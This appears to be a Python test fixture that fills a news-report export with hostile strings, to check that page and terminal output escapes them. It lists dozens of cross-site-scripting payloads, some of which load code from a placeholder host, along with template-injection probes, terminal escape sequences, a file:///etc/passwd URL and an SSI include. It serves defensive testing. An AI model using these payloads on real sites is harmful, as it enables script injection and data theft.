"""Texts that try to break out of the page or the terminal, and a report that is full of them."""

from counterclaim.records import Reading, Report
from tests.exports.story import Story

CANARY = "canary.invalid"
"""A host that no page may ask for; the name is reserved, so that nothing answers."""

OWN = "document.documentElement.setAttribute('data-owned','1')"

PAYLOADS: tuple[str, ...] = (
    f"<script>{OWN}</script>",
    f"</script><script>{OWN}</script>",
    f"<ScRiPt>{OWN}</sCrIpT>",
    f"<script src=//{CANARY}/a.js></script>",
    f"<script src='https://{CANARY}/b.js'></script>",
    f"</title><script>{OWN}</script>",
    f"</style><script>{OWN}</script>",
    f"</mark></p><script>{OWN}</script>",
    f"--><script>{OWN}</script>",
    f"]]><script>{OWN}</script>",
    f"</textarea><script>{OWN}</script>",
    f"</noscript><script>{OWN}</script>",
    f'"><script>{OWN}</script>',
    f"'><script>{OWN}</script>",
    f"<img src=x onerror={OWN}>",
    f'<img src="https://{CANARY}/c.png" onload="{OWN}">',
    f'" onmouseover="{OWN}" x="',
    f"' onfocus='{OWN}' autofocus='",
    f'" autofocus onfocus="{OWN}',
    f"<svg onload={OWN}>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={OWN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWN}>",
    f"<body onload={OWN}>",
    f"<iframe src=javascript:{OWN}></iframe>",
    f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe>",
    f"<iframe src=https://{CANARY}/d.html></iframe>",
    f"<object data=https://{CANARY}/e.swf></object>",
    f"<embed src=https://{CANARY}/f.swf>",
    f"<link rel=stylesheet href=https://{CANARY}/g.css>",
    f"<link rel=prefetch href=https://{CANARY}/h>",
    f"<link rel=dns-prefetch href=//{CANARY}>",
    f"<meta http-equiv=refresh content='0;url=https://{CANARY}/i'>",
    f"<base href=https://{CANARY}/>",
    f"<style>@import 'https://{CANARY}/j.css';</style>",
    f"<style>*{{background:url(https://{CANARY}/k.png)}}</style>",
    f"<p style=\"background:url('https://{CANARY}/l.png')\">",
    f"<form action=https://{CANARY}/m><button autofocus>go</button></form>",
    f"<a href=javascript:{OWN}>read more</a>",
    f"<details open ontoggle={OWN}>",
    f"<video><source onerror={OWN}></video>",
    f"<audio src=https://{CANARY}/n.mp3 autoplay>",
    f"<marquee onstart={OWN}>",
    f"<input autofocus onfocus={OWN}>",
    f"<template><script>{OWN}</script></template>",
    f"<xss style='animation-name:x' onanimationstart={OWN}>",
    f"&lt;script&gt;{OWN}&lt;/script&gt;",
    f"&#60;script&#62;{OWN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{OWN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{OWN}+ADw-/script+AD4-",
    f"<scr\u200bipt>{OWN}</scr\u200bipt>",
    f"<scr\x00ipt>{OWN}</script>",
    "{{ 7 * 7 }}{% for x in (1).__class__.__mro__ %}{{ x }}{% endfor %}",
    "{{ report.__class__.__init__.__globals__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "\u202egnp.exe\u202c",
    "\u2067right to left isolate\u2069",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "\x9b31mcontrol sequence\x9c",
    "\u2028line\u2029paragraph",
    "z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b\u035c\u035d\u035e\u035f",
    "\U000e0041\U000e0042 tags",
    "\ufeff\u2060joined",
    "<!--#include virtual=/etc/hosts-->",
    "<?php echo 1 ?>",
)

URLS: tuple[str, ...] = (
    f"javascript:{OWN}",
    f"JaVaScRiPt:{OWN}",
    f" javascript:{OWN}",
    f"java\tscript:{OWN}",
    f"data:text/html,<script>{OWN}</script>",
    f"vbscript:{OWN}",
    "file:///etc/passwd",
    f"https://user:password@{CANARY}/",
    "https://[bad/",
    "//example.org/no-scheme",
    "https://example.org/\u202egpj.exe",
)


def tell_hostile(payload: str, *, url: str | None = None) -> tuple[Report, Reading]:
    """Return a report with a payload wherever text can stand: headline, body, name, role, party, file name, reasons."""
    flat = " ".join(payload.split())
    body = f"{flat} said that {flat} had left. {flat} wrote {flat} to the editor."
    story = Story(
        (("headline", f"Headline {payload}"), ("dateline", payload), ("caption", payload), ("paragraph", body)),
        name=f"{payload}.html",
        url=url or payload,
    )
    start = story.span(body).start
    actor = story.actor(flat, role=flat, party=flat)
    story.claim(
        "asserts",
        "said",
        f"{flat} had left",
        by=[story.speaker(flat, actor, start)],
        after=start + len(flat),
        near=start + len(flat) + 1,
        addressees=(story.speaker(flat, None, start, reason=payload),),
        via=(story.speaker(flat, actor, start),),
        medium=story.span(flat, start),
    )
    story.claim("denies", flat, "to the editor", near=start, reason=payload)
    return story.report(), story.reading()
